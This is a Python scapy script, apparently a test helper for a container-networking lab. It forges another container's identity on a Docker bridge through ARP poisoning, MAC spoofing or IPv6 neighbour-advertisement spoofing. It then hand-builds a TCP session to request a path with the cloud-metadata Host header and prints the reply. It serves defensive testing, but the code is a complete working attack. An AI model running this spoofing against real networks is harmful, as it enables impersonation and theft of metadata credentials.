"""Forges another container's address on a Docker bridge and tries to talk to a server as it.

Run by dev.berth.testing.Spoofer inside an attacker container with Docker's default capabilities
(NET_RAW, no NET_ADMIN), as `chroot /host python3 spoof.py MODE VICTIM_IP VICTIM_MAC SERVER_IP
SERVER_MAC PORT PATH`. Only ever aimed at the lab's own bridge addresses. Modes:
  arp  tell the server's host, with unsolicited ARP replies, that the victim's IP is at our MAC
  mac  send frames with the victim's MAC as source, so the bridge learns it on our port
  nd   like arp for IPv6: unsolicited neighbour advertisements for the victim's IPv6 address
Then it completes a TCP handshake with raw packets carrying the victim's IP and prints the
server's answer, or NO-ANSWER. Bounded: about 15 seconds at most.
"""
import random
import re
import sys
import threading
import time

from scapy.all import (ARP, Ether, ICMPv6ND_NA, ICMPv6NDOptDstLLAddr, IP, IPv6, Raw, TCP, AsyncSniffer, conf,
                       get_if_hwaddr, sendp)

conf.verb = 0
mode, victim_ip, victim_mac, server_ip, server_mac, port, path = sys.argv[1:8]
port = int(port)
iface = "eth0"
own_mac = get_if_hwaddr(iface)
src_mac = victim_mac if mode == "mac" else own_mac
v6 = ":" in victim_ip
L3 = IPv6 if v6 else IP


def poison():
    if mode == "nd":
        sendp(Ether(src=own_mac, dst=server_mac) / IPv6(src=victim_ip, dst=server_ip) /
              ICMPv6ND_NA(tgt=victim_ip, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=own_mac), iface=iface)
    elif not v6:
        sendp(Ether(src=src_mac, dst=server_mac) /
              ARP(op=2, hwsrc=src_mac, psrc=victim_ip, hwdst=server_mac, pdst=server_ip), iface=iface)


sport = random.randint(20000, 60000)
seq = random.randint(0, 2 ** 31)
seen = []


def ours(p):
    return L3 in p and TCP in p and p[L3].src == server_ip and p[TCP].sport == port and p[TCP].dport == sport


# On a loaded machine the sniffer's thread may start late; a SYN-ACK that comes before it listens is
# lost, so wait until it really captures.
listening = threading.Event()
sniffer = AsyncSniffer(iface=iface, lfilter=ours, prn=seen.append, store=False, started_callback=listening.set)
sniffer.start()
listening.wait(5)
for _ in range(3):
    poison()
    time.sleep(0.1)


def send(tcp, payload=b""):
    pkt = Ether(src=src_mac, dst=server_mac) / L3(src=victim_ip, dst=server_ip) / tcp
    sendp(pkt / Raw(payload) if payload else pkt, iface=iface)


def wait_for(pred, seconds):
    end = time.time() + seconds
    while time.time() < end:
        for p in list(seen):
            if pred(p):
                return p
        time.sleep(0.05)
        poison()
    return None


synack = None
for _ in range(3):  # the same SYN again if nothing came back: a lost frame is not a defence
    send(TCP(sport=sport, dport=port, flags="S", seq=seq))
    synack = wait_for(lambda p: p[TCP].flags & 0x12 == 0x12, 3)
    if synack is not None:
        break
if synack is None:
    sniffer.stop()
    print("NO-ANSWER")
    sys.exit(0)
ack = synack[TCP].seq + 1
request = ("GET %s HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n" % path).encode()
send(TCP(sport=sport, dport=port, flags="A", seq=seq + 1, ack=ack))
send(TCP(sport=sport, dport=port, flags="PA", seq=seq + 1, ack=ack), request)


def complete(data):
    head, sep, rest = data.partition(b"\r\n\r\n")
    if not sep:
        return False
    length = re.search(rb"(?im)^content-length:\s*(\d+)", head)
    return length is None or len(rest) >= int(length.group(1))


# The answer may come in several segments: a server that writes its headers and its body apart
# (the JDK's HttpServer) sends the body only once the headers are acknowledged (Nagle), so every
# segment is acknowledged as it comes, and the answer is read until it is complete, or 3 s.
segments = {}
body = b""
acked = ack
end = time.time() + 3
while time.time() < end:
    for p in list(seen):
        if Raw in p:
            segments.setdefault(p[TCP].seq, bytes(p[Raw].load))
    body, following = b"", ack
    while following in segments:
        body += segments[following]
        following += len(segments[following])
    if following != acked:
        send(TCP(sport=sport, dport=port, flags="A", seq=seq + 1 + len(request), ack=following))
        acked = following
    if complete(body):
        break
    time.sleep(0.05)
    poison()
sniffer.stop()
send(TCP(sport=sport, dport=port, flags="R", seq=seq + 1 + len(request)))
print(body.decode("latin-1") if body else "NO-ANSWER")
